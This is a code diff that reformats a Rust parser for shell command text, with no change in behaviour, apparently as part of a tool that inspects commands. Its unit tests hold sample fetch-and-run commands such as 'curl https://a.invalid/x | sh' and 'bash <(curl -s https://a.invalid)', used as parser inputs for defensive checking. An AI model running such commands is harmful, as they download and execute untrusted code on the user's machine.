@@ -64,7 +64,12 @@ const COMMANDS: usize = 2_000;
 
 /// Reads shell text. It never fails: what cannot be read is a word.
 pub fn parse(text: &str) -> Script {
-    let mut reader = Reader { chars: text.chars().collect(), at: 0, depth: 0, pending: Vec::new() };
+    let mut reader = Reader {
+        chars: text.chars().collect(),
+        at: 0,
+        depth: 0,
+        pending: Vec::new(),
+    };
     reader.script(None)
 }
 
@@ -82,7 +87,9 @@ impl Reader {
     }
 
     fn looks_at(&self, text: &str) -> bool {
-        text.chars().enumerate().all(|(offset, c)| self.chars.get(self.at + offset) == Some(&c))
+        text.chars()
+            .enumerate()
+            .all(|(offset, c)| self.chars.get(self.at + offset) == Some(&c))
     }
 
     fn script(&mut self, until: Option<char>) -> Script {
@@ -113,13 +120,19 @@ impl Reader {
                 '|' => {
                     let or = self.looks_at("||");
                     self.at += if or || self.looks_at("|&") { 2 } else { 1 };
-                    finish(&mut script, &mut command, if or { Link::Then } else { Link::Pipe });
+                    finish(
+                        &mut script,
+                        &mut command,
+                        if or { Link::Then } else { Link::Pipe },
+                    );
                 }
                 '(' | ')' | '{' | '}' if is_group(&command, c, self.chars.get(self.at + 1)) => {
                     self.at += 1;
                     finish(&mut script, &mut command, Link::Then);
                 }
-                '#' if command.words.is_empty() || self.at > 0 && self.chars[self.at - 1].is_whitespace() => {
+                '#' if command.words.is_empty()
+                    || self.at > 0 && self.chars[self.at - 1].is_whitespace() =>
+                {
                     while self.peek().is_some_and(|c| c != '\n') {
                         self.at += 1;
                     }
@@ -187,7 +200,10 @@ impl Reader {
         for (delimiter, index) in std::mem::take(&mut self.pending) {
             let mut body = String::new();
             while self.at < self.chars.len() {
-                let end = self.chars[self.at..].iter().position(|c| *c == '\n').map_or(self.chars.len(), |offset| self.at + offset);
+                let end = self.chars[self.at..]
+                    .iter()
+                    .position(|c| *c == '\n')
+                    .map_or(self.chars.len(), |offset| self.at + offset);
                 let line: String = self.chars[self.at..end].iter().collect();
                 self.at = (end + 1).min(self.chars.len());
                 if line.trim() == delimiter {
@@ -318,12 +334,19 @@ impl Reader {
                 }
                 let inner: String = self.chars[start..self.at].iter().collect();
                 self.at += 1;
-                let name: String = inner.trim_start_matches(['#', '!']).chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').collect();
+                let name: String = inner
+                    .trim_start_matches(['#', '!'])
+                    .chars()
+                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+                    .collect();
                 variable(word, &name);
             }
             Some(c) if c.is_ascii_alphabetic() || c == '_' => {
                 let start = self.at;
-                while self.peek().is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
+                while self
+                    .peek()
+                    .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
+                {
                     self.at += 1;
                 }
                 let name: String = self.chars[start..self.at].iter().collect();
@@ -378,14 +401,35 @@ fn is_group(command: &Command, c: char, next: Option<&char>) -> bool {
 fn take_word(command: &mut Command, word: Word) {
     if command.words.is_empty() {
         // Words of the language that a command stands behind.
-        if matches!(word.text.as_str(), "if" | "then" | "else" | "elif" | "fi" | "do" | "done" | "while" | "until" | "!" | "time" | "exec" | "command" | "nohup" | "sudo" | "builtin") && word.substitutions.is_empty() {
+        if matches!(
+            word.text.as_str(),
+            "if" | "then"
+                | "else"
+                | "elif"
+                | "fi"
+                | "do"
+                | "done"
+                | "while"
+                | "until"
+                | "!"
+                | "time"
+                | "exec"
+                | "command"
+                | "nohup"
+                | "sudo"
+                | "builtin"
+        ) && word.substitutions.is_empty()
+        {
             return;
         }
         if let Some((name, value)) = word.text.split_once('=')
             && !name.is_empty()
             && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
         {
-            let value = Word { text: value.to_owned(), ..word.clone() };
+            let value = Word {
+                text: value.to_owned(),
+                ..word.clone()
+            };
             command.assignments.push((name.to_owned(), value));
             return;
         }
@@ -407,12 +451,19 @@ mod tests {
     use super::*;
 
     fn words(text: &str) -> Vec<Vec<String>> {
-        parse(text).commands.iter().map(|command| command.words.iter().map(|word| word.text.clone()).collect()).collect()
+        parse(text)
+            .commands
+            .iter()
+            .map(|command| command.words.iter().map(|word| word.text.clone()).collect())
+            .collect()
     }
 
     #[test]
     fn quotes_are_taken_away_and_lists_are_split() {
-        assert_eq!(words("node 'a b.js' && echo \"x y\"; c"), [vec!["node", "a b.js"], vec!["echo", "x y"], vec!["c"]]);
+        assert_eq!(
+            words("node 'a b.js' && echo \"x y\"; c"),
+            [vec!["node", "a b.js"], vec!["echo", "x y"], vec!["c"]]
+        );
         assert_eq!(words("cu\"r\"l -s a"), [vec!["curl", "-s", "a"]]);
     }
 
@@ -421,7 +472,10 @@ mod tests {
         let script = parse("curl https://a.invalid/x | sh");
         assert_eq!(script.commands[0].link, Link::Pipe);
         let script = parse("sh -c \"$(curl -s https://a.invalid)\"");
-        assert_eq!(script.commands[0].words[2].substitutions[0].commands[0].words[0].text, "curl");
+        assert_eq!(
+            script.commands[0].words[2].substitutions[0].commands[0].words[0].text,
+            "curl"
+        );
         let script = parse("bash <(curl -s https://a.invalid)");
         assert!(script.commands[0].words[1].process);
     }
@@ -435,7 +489,19 @@ mod tests {
 
     #[test]
     fn anything_ends() {
-        for text in ["$(", "`", "\"", "'", "<(", "<<", "${", "$((", "a\\", "((((((((((((((((", "<<<"] {
+        for text in [
+            "$(",
+            "`",
+            "\"",
+            "'",
+            "<(",
+            "<<",
+            "${",
+            "$((",
+            "a\\",
+            "((((((((((((((((",
+            "<<<",
+        ] {
             parse(text);
         }
     }
